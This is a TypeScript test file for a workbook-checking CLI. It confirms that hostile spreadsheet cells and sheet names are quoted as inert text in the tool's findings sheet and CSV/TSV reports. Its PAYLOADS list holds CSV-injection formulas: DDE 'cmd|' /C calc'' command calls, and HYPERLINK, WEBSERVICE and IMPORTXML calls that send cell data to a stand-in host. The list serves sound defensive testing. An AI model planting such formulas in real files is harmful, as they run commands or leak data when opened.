import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import Papa from 'papaparse';
import { mesinBaru } from '../helpers/uji-mesin';
import { neutralise, shownValue, temuanRows } from '../../core/tanda';
import { Finding } from '../../core/periksa/temuan';
import { lkjip } from '../fixtures/sintetis';
import { jalankan } from '../helpers/jalankan-cli';

/**
 * CSV injection (OWASP): what the CLI writes for a planner to open again (the "Temuan" sheet of
 * `periksa --tandai`, the `--laporan` CSV/TSV) quotes the workbook's own cells and sheet names.
 * A cell typed as `=HYPERLINK(…)` or `-2+3+cmd|…` must come out as text a spreadsheet shows,
 * never as a formula it runs, whichever way the list is opened.
 */

/** OWASP's CSV-injection examples, the full-width forms, and the calls that send data out. */
const PAYLOADS = [
  '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '=IMPORTXML("http://contoh.invalid","//a")',
  '=WEBSERVICE("http://contoh.invalid/"&A1)',
];

/** The payloads as the reader hands them to the checker: a cell's leading tab or CR is trimmed. */
const READ = PAYLOADS.map((p) => p.trim());

/** Sheet names a spreadsheet allows that read as formulas. */
const SHEET_NAMES = ['=1+1', '@SUM(1)', '+cmd|calc', '-2+3'];

/** What a spreadsheet would run: a leading formula sign (a plain number such as -5 is a value). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const runs = (text: string) => FORMULA_START.test(text) && !/^[-+]?\d[\d.,]*%?$/.test(text) && text !== '-';

let dir: string;
let input: string;

beforeAll(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'lk-injeksi-csv-'));
  input = path.join(dir, 'lkjip-berbahaya.xlsx');
  // The synthetic LKjIP tables on sheets named like formulas: a hostile Kategori (predikat)
  // cell, and a hostile text in the Realisasi (Rp) cell of every kegiatan (each a number-format
  // finding quoting it); the anggaran table again with another total, so a cross-table finding
  // names the other hostile sheet among its related cells.
  const t = lkjip(7, 4);
  const wb = new ExcelJS.Workbook();
  const put = (name: string, values: (string | number | null)[][]) => {
    const ws = wb.addWorksheet(name);
    values.forEach((row, r) => row.forEach((v, c) => v !== null && (ws.getCell(r + 1, c + 1).value = v)));
  };
  const cap = t.capaian.values.map((r) => r.slice()) as (string | number | null)[][];
  cap[1][6] = PAYLOADS[0];
  put(SHEET_NAMES[0], cap);
  const ang = t.anggaran.values.map((r) => r.slice()) as (string | number | null)[][];
  const kegiatan = ang.flatMap((r, i) => (/^\d+\.\d+$/.test(String(r[0])) ? [i] : []));
  PAYLOADS.slice(1).forEach((p, i) => (ang[kegiatan[i]][3] = p));
  put(SHEET_NAMES[1], ang);
  const ang2 = t.anggaran.values.map((r) => r.slice()) as (string | number | null)[][];
  ang2[ang2.length - 1][2] = (ang2[ang2.length - 1][2] as number) + 1000;
  put(SHEET_NAMES[2], ang2);
  put(SHEET_NAMES[3], [
    ['No.', 'Program/Kegiatan', 'Anggaran (Rp)', 'Realisasi (Rp)'],
    ['1.', 'PROGRAM A', 200, PAYLOADS[3]],
    ['1.1', 'Kegiatan A1', 100, 100],
    ['1.2', 'Kegiatan A2', 100, 100],
  ]);
  await wb.xlsx.writeFile(input);
}, 60_000);

afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

interface JsonFinding {
  sheet: string;
  cell: string;
  actual: string | null;
  expected: string | null;
  message: string;
  related: string[];
}

async function periksaJson(file: string): Promise<JsonFinding[]> {
  const r = await jalankan('periksa', file, '--json');
  return (JSON.parse(r.out) as { files: { findings: JsonFinding[] }[] }).files[0].findings;
}

/** Every value of a worksheet as text, with whether any cell holds a formula. */
function isiLembar(ws: ExcelJS.Worksheet): { rows: string[][]; formulas: string[] } {
  const rows: string[][] = [];
  const formulas: string[] = [];
  ws.eachRow({ includeEmpty: false }, (row, r) => {
    const texts: string[] = [];
    row.eachCell({ includeEmpty: true }, (cell, c) => {
      if (cell.type === ExcelJS.ValueType.Formula) formulas.push(cell.address);
      texts[c - 1] = cell.value === null || cell.value === undefined ? '' : String(cell.value);
    });
    rows[r - 1] = Array.from(texts, (t) => t ?? '');
  });
  return { rows, formulas };
}

/** The rows loaded into a spreadsheet engine: nothing in them may compute. */
function tidakDihitung(rows: string[][]): void {
  const hf = mesinBaru(rows);
  rows.forEach((row, r) =>
    row.forEach((text, c) => {
      const at = { sheet: 0, row: r, col: c };
      if (hf.doesCellHaveFormula(at)) throw new Error(`dihitung sebagai rumus: ${JSON.stringify(text)}`);
      expect(hf.getCellValueType(at)).not.toBe('ERROR');
    }),
  );
  hf.destroy();
}

test('whatever a finding carries in any field, no cell of its Temuan row starts a formula', () => {
  const text = fc.oneof(
    fc.string(),
    fc.constantFrom(...PAYLOADS),
    fc.string().map((x) => `=${x}`),
  );
  fc.assert(
    fc.property(text, text, text, text, fc.array(text, { maxLength: 3 }), (sheet, actual, expected, message, related) => {
      const f: Finding = {
        sheet,
        cell: 'C4',
        rule: 'antar-tabel',
        severity: 'warning',
        actual,
        expected,
        message: message || '.',
        related,
      };
      for (const cell of temuanRows([f])[0].cells) expect(runs(cell) ? cell : '').toBe('');
    }),
  );
});

test('the checker quotes the hostile cells and sheet names in its findings (the test has something to catch)', async () => {
  const findings = await periksaJson(input);
  const quoted = READ.filter((p) => findings.some((f) => f.actual === p && f.message.includes(p)));
  expect(quoted).toEqual(READ);
  expect(new Set(findings.map((f) => f.sheet))).toEqual(new Set(SHEET_NAMES));
  expect(findings.some((f) => f.related.some((r) => SHEET_NAMES.some((s) => r.includes(s))))).toBe(true);
});

test('the Temuan sheet of periksa --tandai holds every hostile text inert, and no cell of it is a formula', async () => {
  const out = path.join(dir, 'bertanda.xlsx');
  const r = await jalankan('periksa', input, '--tandai', out);
  expect(r.err).toBe('');
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(out);
  const { rows, formulas } = isiLembar(wb.getWorksheet('Temuan')!);
  expect(formulas).toEqual([]);
  const findings = await periksaJson(input);
  expect(rows).toHaveLength(findings.length + 1);
  for (const row of rows) for (const text of row) expect(runs(text) ? text : '').toBe('');
  // Each hostile value is there, as the neutralised text (a leading apostrophe).
  for (const f of findings.filter((x) => x.actual !== null && READ.includes(x.actual))) {
    const row = rows.find((x) => x[0] === neutralise(f.sheet) && x[1] === f.cell && x[4] === shownValue(f.actual));
    expect(row?.[4]).toBe(`'${f.actual}`);
  }
  for (const name of SHEET_NAMES) expect(rows.some((x) => x[0] === `'${name}`)).toBe(true);
  tidakDihitung(rows);
}, 60_000);

test('a CSV input named like a formula: the sheet it becomes is listed neutralised in the Temuan sheet', async () => {
  const csv = path.join(dir, '=1+1.csv');
  fs.writeFileSync(
    csv,
    [
      'No.;Program/Kegiatan;Anggaran (Rp);Realisasi (Rp)',
      `1.;PROGRAM A;300;${PAYLOADS[1]}`,
      '1.1;Kegiatan A1;100;100',
      '1.2;Kegiatan A2;100;100',
    ].join('\n'),
  );
  const out = path.join(dir, 'csv-bertanda.xlsx');
  const r = await jalankan('periksa', csv, '--tandai', out);
  expect(r.err).toBe('');
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(out);
  const { rows, formulas } = isiLembar(wb.worksheets.find((w) => w.name.startsWith('Temuan'))!);
  expect(formulas).toEqual([]);
  expect(rows.length).toBeGreaterThan(1);
  expect(rows.slice(1).every((x) => x[0] === "'=1+1")).toBe(true);
  expect(rows.some((x) => x.includes(`'${PAYLOADS[1]}`))).toBe(true);
  for (const row of rows) for (const text of row) expect(runs(text) ? text : '').toBe('');
}, 60_000);

test.each([
  ['temuan.csv', ';'],
  ['temuan.tsv', '\t'],
])(
  'periksa --laporan %s: read back by papaparse and by a spreadsheet engine, every hostile text is inert',
  async (name, delimiter) => {
    const out = path.join(dir, name);
    const r = await jalankan('periksa', input, path.join(dir, '=1+1.csv'), '--laporan', out);
    expect(r.err).toBe('');
    const text = fs.readFileSync(out, 'utf8');
    const parsed = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { delimiter, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const rows = parsed.data;
    const findings = [...(await periksaJson(input)), ...(await periksaJson(path.join(dir, '=1+1.csv')))];
    expect(rows).toHaveLength(findings.length + 1);
    for (const row of rows) for (const field of row) expect(runs(field) ? field : '').toBe('');
    // Each line of the raw file starts with a safe field too (a spreadsheet that ignores quoting).
    for (const line of text.replace(/^\uFEFF/, '').split('\r\n')) expect(runs(line) ? line : '').toBe('');
    for (const p of READ) expect(rows.some((x) => x[5] === `'${p}`)).toBe(true);
    expect(rows.filter((x) => x[1] === "'=1+1").length).toBeGreaterThan(0);
    tidakDihitung(rows);
  },
  60_000,
);
